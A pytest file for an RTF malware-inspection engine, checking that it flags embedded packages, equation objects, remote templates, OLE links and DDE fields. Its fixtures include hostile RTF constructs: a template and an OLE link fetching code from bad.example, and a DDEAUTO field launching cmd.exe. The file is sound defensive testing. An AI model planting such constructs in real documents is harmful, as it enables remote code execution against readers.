import struct
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from sample_analysis.engines.documents import rtf
from sample_analysis.engines.inspection import Inspection, run

Examine = Callable[..., Any]


def length_prefixed(text: bytes) -> bytes:
    return struct.pack("<I", len(text) + 1) + text + b"\x00"


def ole1(name: bytes, data: bytes) -> bytes:
    return (
        struct.pack("<II", 0x501, 2)
        + length_prefixed(name)
        + length_prefixed(b"")
        + length_prefixed(b"")
        + struct.pack("<I", len(data))
        + data
    )


def package(name: bytes, data: bytes) -> bytes:
    body = b"\x02\x00" + name + b"\x00C:\\" + name + b"\x00\x00\x00\x03\x00" + length_prefixed(b"C:\\" + name)
    return ole1(b"Package", body + struct.pack("<I", len(data)) + data)


def rules(report: Any) -> set[str]:
    return {reason.rule for file in report.parsed.files for reason in file.reasons}


def plain(data: bytes) -> bytes:
    return b"{\\rtf1{\\object\\objemb{\\*\\objdata " + data.hex().encode() + b"}}}"


def spaced(data: bytes) -> bytes:
    return (
        b"{\\rtf1{\\object{\\*\\objdata\n"
        + b"\n".join(data.hex()[at : at + 2].encode() for at in range(0, len(data) * 2, 2))
        + b"}}}"
    )


def with_noise(data: bytes) -> bytes:
    digits = data.hex().encode()
    return b"{\\rtf1{\\object{\\*\\objdata1 " + digits[:9] + b"{\\*\\noise 41414141}" + digits[9:] + b"\\par }}}"


def in_groups(data: bytes) -> bytes:
    digits = data.hex().encode()
    return b"{\\rt{\\object{\\*\\objdata {" + digits[:5] + b"}\\foo " + digits[5:] + b"}}}"


def binary(data: bytes) -> bytes:
    return b"{\\rtf1{\\object{\\*\\objdata \\bin" + str(len(data)).encode() + b" " + data + b"}}}"


@pytest.mark.parametrize("written", [plain, spaced, with_noise, in_groups, binary])
def test_an_object_is_taken_out_however_it_is_written(
    examine: Examine, written: Callable[[bytes], bytes], eicar: bytes
) -> None:
    report = examine(written(package(b"letter.txt", eicar)), "a.rtf")
    assert report.file("letter.txt").verdict == "malicious"
    assert report.root.verdict == "malicious"


def test_an_embedded_program_and_an_equation_are_suspicious_and_a_picture_is_not(examine: Examine) -> None:
    assert examine(plain(package(b"run.js", b"var a = 1")), "a.rtf").root.verdict == "suspicious"
    equation = examine(plain(ole1(b"Equation.3", b"\x00" * 100)), "a.rtf")
    assert "equation-object" in rules(equation)
    by_number = examine(plain(ole1(b"Other", bytes.fromhex("02ce020000000000c000000000000046") + b"\x00" * 100)))
    assert "equation-object" in rules(by_number)
    assert examine(plain(ole1(b"PBrush", b"BM\x00\x00")), "a.rtf").root.verdict == "unknown"


def test_templates_links_and_fields_are_told(examine: Examine) -> None:
    template = examine(b"{\\rtf1{\\*\\template https://bad.example/t.dotm}text}", "a.rtf")
    assert rules(template) == {"remote-template"}
    assert [url.url for url in template.parsed.urls] == ["https://bad.example/t.dotm"]
    moniker = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + "https://bad.example/a.hta".encode("utf-16-le")
    link = examine(b"{\\rtf1{\\object\\objupdate{\\*\\objdata " + ole1(b"OLE2Link", moniker).hex().encode() + b"}}}")
    assert {"remote-object", "object-updates-itself"} <= rules(link)
    dde = examine(b'{\\rtf1{\\field{\\*\\fldinst {\\rtlch DDEAUTO } cmd.exe "/k calc" }{\\fldrslt x}}}', "a.rtf")
    assert "dde-starts-program" in rules(dde)
    ordinary = examine(b'{\\rtf1{\\field{\\*\\fldinst HYPERLINK "https://good.example/"}{\\fldrslt x}}}', "a.rtf")
    assert (ordinary.root.verdict, rules(ordinary)) == ("unknown", set())
    assert [url.url for url in ordinary.parsed.urls] == ["https://good.example/"]


@pytest.mark.parametrize(
    "data",
    [
        b"{\\rtf1" + b"{" * 1_000_000,
        b"{\\rtf1" + b"\\'41" * 500_000,
        b"{\\rtf1" + b"\\" * 1_000_000,
        b"{\\rtf1{\\*\\objdata " + b"4" * 5_000_000,
        b"{\\rtf1{\\*\\objdata " + b"4 {\\*\\x 5}" * 100_000,
        b"{\\rtf1" + b"{\\*\\objdata 0105}" * 50_000,
        b"{\\rtf1\\bin999999999 x",
        b"{\\rtf1{\\*\\objdata \\bin-5 41",
        b"{\\rtf1" + b"\\a" + b"1" * 300_000,
    ],
)
def test_hostile_texts_end(inspection: Callable[[bytes], Inspection], data: bytes) -> None:
    looked = inspection(data)
    started = time.process_time()
    run(looked, rtf.inspect)
    assert time.process_time() - started < 30
    # Stopped by the clock it would have ended too, whatever its cost.
    assert not {"damaged", "parser-time"} & {limit.limit for limit in looked.node.limits}


def test_the_texts_of_the_corpora_are_ordinary(corpora: Path, examine: Examine) -> None:
    files = sorted((corpora / "filetype-magika/rtf").iterdir())
    assert [(examine(path.read_bytes(), path.name).root.verdict, path.suffix) for path in files] == [
        ("unknown", ".rtf")
    ] * 2
